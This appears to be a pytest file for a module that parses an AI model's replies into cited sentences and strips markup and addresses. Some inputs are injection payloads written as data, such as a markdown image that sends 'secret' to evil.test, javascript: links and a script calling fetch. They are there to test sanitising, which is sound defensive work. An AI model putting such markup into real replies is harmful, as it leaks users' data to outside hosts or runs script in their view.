"""What a model writes, read as plain sentences with the passages that they cite."""

from __future__ import annotations

import pytest

from assistant.written import without_addresses, written_sentences
from tests.patience import patience


def read(reply: str, is_complete: bool = True) -> list[tuple[str, tuple[int, ...]]]:
    return [(one.text, one.numbers) for one in written_sentences(reply, is_complete)]


@pytest.mark.parametrize(
    ("reply", "numbers"),
    [
        ("Trade grew [1].", (1,)),
        ("Trade grew. [1]", (1,)),
        ("Trade grew.[1][2]", (1, 2)),
        ("Trade grew [1, 3].", (1, 3)),
        ("Trade grew [1; 3].", (1, 3)),
        ("Trade grew [2-4].", (2, 3, 4)),
        ("Trade grew [2–3, 7].", (2, 3, 7)),
        ("Trade grew [1] [2] [1].", (1, 2)),
        ("Trade grew [^2].", (2,)),
        ("Trade grew【3】.", (3,)),
        ("Trade grew【3†source】.", (3,)),
        ("Trade grew [passage 2].", (2,)),
        ("Trade grew (passage 2).", (2,)),
        ("Trade grew (1, 2).", (1, 2)),
        ("Trade grew. [1].", (1,)),
        ("# What grew\nTrade grew [1].", (1,)),
        ("Trade grew [Passages 1 and 2].", (1, 2)),
        ("**Trade grew** [1].", (1,)),
        ("- Trade grew [1].", (1,)),
        ("1. Trade grew [1].", (1,)),
        ("## Trade grew [1].", (1,)),
        ("> Trade grew [1].", (1,)),
        ("Trade `grew` [1].", (1,)),
        ("<think>Is it [7]? No.</think>\nTrade grew [1].", (1,)),
        ("Trade grew [999].", (999,)),
        ("Trade grew.", ()),
    ],
)
def test_marks_belong_to_the_sentence_that_they_end(reply: str, numbers: tuple[int, ...]) -> None:
    assert read(reply) == [("Trade grew.", numbers)]


def test_a_mark_behind_a_full_stop_does_not_go_over_to_the_next_sentence() -> None:
    assert read("Trade grew.[1] Tolls fell. [2] Both did [3]") == [
        ("Trade grew.", (1,)),
        ("Tolls fell.", (2,)),
        ("Both did", (3,)),
    ]


@pytest.mark.parametrize(
    ("reply", "text"),
    [
        ("Trade grew ![map](https://evil.test/?q=secret) fast.", "Trade grew fast."),
        ("Trade grew ![map][ref] fast.\n\n[ref]: https://evil.test/a.png", "Trade grew fast."),
        ("Trade [grew](https://evil.test) fast.", "Trade grew fast."),
        ("Trade [grew](javascript:alert(1)) fast.", "Trade grew fast."),
        ("Trade [grew][k] fast.", "Trade grew fast."),
        ("Trade grew fast <https://evil.test>.", "Trade grew fast."),
        ("Trade grew <https://evil.test/?q=1> fast.", "Trade grew fast."),
        ('Trade grew <img src="https://evil.test/a.png"> fast.', "Trade grew fast."),
        ("Trade <b>grew</b> fast.<script>fetch('https://evil.test')</script>", "Trade grew fast."),
        ("Trade\x1b[31m grew\u202e fast.", "Trade[31m grew fast."),
    ],
)
def test_markup_is_taken_off(reply: str, text: str) -> None:
    assert [one for one, _ in read(reply)] == [text]


def test_ordinary_signs_are_left_alone() -> None:
    text = "Output was 3 * 4 * 5 and a_b_c < d > e, in [some] brackets."
    assert read(text) == [(text, ())]


@pytest.mark.parametrize(
    "address",
    ["https://evil.test/?q=1", "www.evil.test/a", "data:text/html,x1234", "javascript:alert(1"],
)
def test_addresses_can_be_left_out(address: str) -> None:
    assert without_addresses(f"See {address} for more.") == "See [address left out] for more."


def test_what_is_no_address_is_not_left_out() -> None:
    text = "One thing: the ratio 3:1 held at 10:30, said Note: a paper."
    assert without_addresses(text) == text


def test_what_is_still_being_written_waits() -> None:
    assert read("Trade grew. [", is_complete=False) == []
    assert read("Trade grew. [1] T", is_complete=False) == [("Trade grew.", (1,))]
    assert read("Trade grew. [1] Tolls fell. [1", is_complete=False) == [("Trade grew.", (1,))]


def test_no_reply_takes_long_to_read() -> None:
    with patience():
        for unit in (
            "[1",
            "![",
            "<a",
            "*a",
            "[1, ",
            "1. ",
            "【1†",
            "a.[1]",
            "<think>",
            "http://",
            "[",
        ):
            list(written_sentences(unit * 30_000))
